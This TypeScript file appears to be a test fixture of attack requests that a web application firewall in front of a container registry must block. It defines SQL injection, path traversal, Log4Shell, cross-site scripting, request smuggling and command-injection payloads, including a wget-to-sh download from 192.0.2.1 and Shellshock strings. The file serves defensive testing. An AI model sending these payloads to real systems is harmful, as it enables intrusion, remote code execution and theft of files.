/** One request that must not reach the registry. */
export interface Attack {
  readonly title: string;
  /** Method and target. */
  readonly line: string;
  /** First digits of the id of a rule that must be logged, the answer being 403; 0 if nginx itself refuses it. */
  readonly rule: number;
  /** Header lines beside Host, Authorization and Connection. */
  readonly headers: readonly string[];
  readonly body: string;
}

const attack = (
  title: string,
  line: string,
  rule = 0,
  headers: readonly string[] = [],
  body = "",
): Attack => ({ title, line, rule, headers, body });

const upload = "/v2/team/app/blobs/uploads/";
const start = `POST ${upload}`;
const session = `${upload}0f8fad5b-d9cb-469f-a165-70867728950e`;
const piece = `PATCH ${session}`;
const push = "PUT /v2/team/app/manifests/1";
const catalog = "GET /v2/_catalog";
const none = "Content-Length: 0";
const four = "Content-Length: 4";
const chunked = "Transfer-Encoding: chunked";
const large = `X-Large: ${"a".repeat(40_000)}`;
const agent = (text: string) => `User-Agent: ${text}`;
const lookup = (text: string) => `\${${text}}`;
const ldap = lookup("jndi:ldap://192.0.2.1/a");

/** A manifest of the right type with this text where a digest belongs, or in another field. */
function manifest(title: string, rule: number, text: string, field = "digest"): Attack {
  const body = JSON.stringify({ schemaVersion: 2, config: { [field]: text } });
  const type = "Content-Type: application/vnd.oci.image.manifest.v1+json";
  return attack(title, push, rule, [type, `Content-Length: ${body.length}`], body);
}

/** Attacks by family: at the API, at uploads of blobs, and at paths that are none of the API's. */
export const attacks: { readonly [family: string]: readonly Attack[] } = {
  "SQL injection": [
    attack("in a query", `${catalog}?last=1%27%20OR%20%271%27=%271`, 942),
    attack("by union", `${catalog}?last=-1%20UNION%20SELECT%20name,pass%20FROM%20users--`, 942),
    attack("by time", `${catalog}?id=1%20AND%20SLEEP(5)`, 942),
    attack("at an upload", `${start}?mount=sha256:a%27%20OR%201=1--&from=team/app`, 942),
    attack("at an upload, in an argument that is dropped", `${start}?origin=1%27%20OR%20%271%27=%271`, 942),
    attack("in the state of an upload", `${piece}?_state=1%27%3B%20DROP%20TABLE%20blobs--`, 942),
    attack("in a cookie", catalog, 942, ["Cookie: id=1' OR '1'='1"]),
    manifest("in a manifest", 942, "1' OR '1'='1' -- "),
    manifest("for a media type", 1300, "1' OR '1'='1' -- ", "mediaType"),
  ],
  "path traversal": [
    attack("above the root", "GET /v2/../../etc/passwd"),
    attack("within the API", "GET /v2/team/../../v2/_catalog", 930),
    attack("encoded", "GET /v2/team/..%2f..%2f..%2fetc%2fpasswd"),
    attack("encoded twice", `${catalog}?last=%252e%252e%252f%252e%252e%252fetc%252fpasswd`, 930),
    attack("in a query", `${catalog}?last=../../../../etc/passwd`, 930),
    attack("with backslashes", `${catalog}?last=..%5c..%5c..%5cboot.ini`, 930),
    attack("in place of an upload", `PUT ${upload}../../../../etc/passwd`, 930),
    attack("at an upload", `${start}?mount=sha256:${"a".repeat(64)}&from=../../../etc/passwd`, 930),
  ],
  Log4Shell: [
    attack("in a header", "GET /v2/", 1003, [`X-Api-Version: ${ldap}`]),
    attack("in the agent", catalog, 1003, [agent(lookup("jndi:rmi://192.0.2.1/a"))]),
    attack("in pieces", "GET /v2/", 1003, [
      `Referer: ${lookup(`${lookup("lower:j")}ndi:dns://192.0.2.1/a`)}`,
    ]),
    attack("in a query", `${catalog}?last=%24%7Bjndi:ldap://192.0.2.1/a%7D`, 1003),
    attack("at an upload", start, 1003, [`X-Forwarded-For: ${ldap}`, none]),
    attack("with a piece of an upload", piece, 1003, [agent(ldap), four, "Content-Range: 0-3"], "data"),
    manifest("in a manifest", 932, ldap),
  ],
  scanner: [
    attack("sqlmap", catalog, 913, [agent("sqlmap/1.7.2#stable (https://sqlmap.org)")]),
    attack("Nikto", catalog, 913, [agent("Mozilla/5.00 (Nikto/2.1.6)")]),
    attack("masscan", "GET /v2/", 913, [agent("masscan/1.3")]),
    attack("w3af at what is no API", "GET /", 913, [agent("w3af.org")]),
    attack("sqlmap at an upload", start, 913, [agent("sqlmap/1.7"), none]),
    attack("Nessus with a piece of an upload", piece, 913, [agent("Nessus"), four], "data"),
  ],
  "oversized request": [
    attack("a header of 40 KB", "GET /v2/", 0, [large]),
    attack("a header of 40 KB at an upload", start, 0, [large, none]),
    attack(
      "60 KB of headers",
      "GET /v2/",
      0,
      Array.from({ length: 60 }, (_, index) => `X-${index}: ${"a".repeat(1000)}`),
    ),
    attack("a path of 40 KB", `GET /v2/${"a".repeat(40_000)}`),
    attack("four thousand arguments at an upload", `${start}?${"&a".repeat(4030)}`),
    attack("a manifest of 5 MB", push, 0, ["Content-Length: 5000000"]),
  ],
  "request smuggling": [
    attack(
      "length and chunks",
      push,
      0,
      ["Content-Length: 6", chunked],
      "0\r\n\r\nGET /v2/_catalog HTTP/1.1",
    ),
    attack("length and chunks at an upload", start, 0, ["Content-Length: 6", chunked], "0\r\n\r\nG"),
    attack("two lengths", push, 0, [four, "Content-Length: 5"], "GET /"),
    attack("two lengths at an upload", piece, 0, [four, "Content-Length: 5"], "GET /"),
    attack("a length with a sign", push, 0, ["Content-Length: +4"], "GET "),
    attack("an unknown coding", push, 0, ["Transfer-Encoding: xchunked"], "0\r\n\r\n"),
    attack("two codings at an upload", piece, 0, ["Transfer-Encoding: chunked, identity"], "0\r\n\r\n"),
    attack("two headers of codings", push, 0, [chunked, "Transfer-Encoding: identity"], "0\r\n\r\n"),
    attack("a bad chunk", push, 0, [chunked], "zz\r\nGET /v2/ HTTP/1.1\r\n\r\n"),
    attack("a bad chunk at an upload", piece, 0, [chunked], "zz\r\nGET /v2/ HTTP/1.1\r\n\r\n"),
    attack("a space before a colon", push, 0, ["Transfer-Encoding : chunked", four], "0\r\n\r"),
  ],
  "cross-site scripting": [
    attack("in a query", `${catalog}?last=%3Cscript%3Ealert(1)%3C/script%3E`, 941),
    attack("at an upload", `${start}?from=%3Cimg%20src=x%20onerror=alert(1)%3E`, 941),
    attack("in the agent", "GET /v2/", 941, [agent("<script>alert(1)</script>")]),
    attack("at what is no API", "GET /?q=<svg/onload=alert(1)>", 941),
    manifest("in a manifest", 941, "<script>alert(1)</script>"),
  ],
  "command injection": [
    attack("in a query", `${catalog}?last=%3Bcat%20/etc/passwd`, 932),
    attack("by substitution", `${catalog}?last=%24(cat%20/etc/passwd)`, 932),
    attack("in PHP", `${catalog}?last=%3C?php%20system(%27id%27);`, 933),
    attack("Shellshock", "GET /v2/", 932, [agent("() { :; }; /bin/bash -c id")]),
    attack("Shellshock at an upload", start, 932, [agent("() { :; }; /bin/bash -c id"), none]),
    attack("at an upload", `PUT ${session}?digest=sha256:%7Cwget%20http://192.0.2.1/x%7Csh`, 932),
    manifest("in a manifest", 932, "; cat /etc/passwd"),
    manifest("for an address", 1302, "; cat /etc/passwd", "urls"),
  ],
  "null bytes": [
    attack("in a path", "GET /v2/team/app%00/tags/list"),
    attack("in a header", "GET /v2/", 0, ["X-Name: a\0b"]),
    attack("in a query", `${catalog}?last=app%00.jpg`, 920),
    attack("at an upload", `${start}?from=app%00`, 920),
  ],
  "protocol attacks": [
    attack("an unknown method", "FOO /v2/", 911),
    attack("an unknown method at an upload", `SEARCH ${upload}`, 911),
    attack("TRACE", "TRACE /v2/"),
    attack("CONNECT", "CONNECT 192.0.2.1:443"),
    attack("a header within a query", `${catalog}?last=a%0d%0aSet-Cookie:%20a=b`, 921),
    attack("a request within a query", `${catalog}?last=a%0d%0aGET%20/v2/%20HTTP/1.1`, 921),
    attack("a file from another host", `${catalog}?last=http://192.0.2.1/shell.txt`, 931),
    attack("a file from another host at an upload", `${start}?from=http://192.0.2.1/shell.txt`, 931),
    attack("a file of a repository of sources", "GET /.git/config", 930),
  ],
};
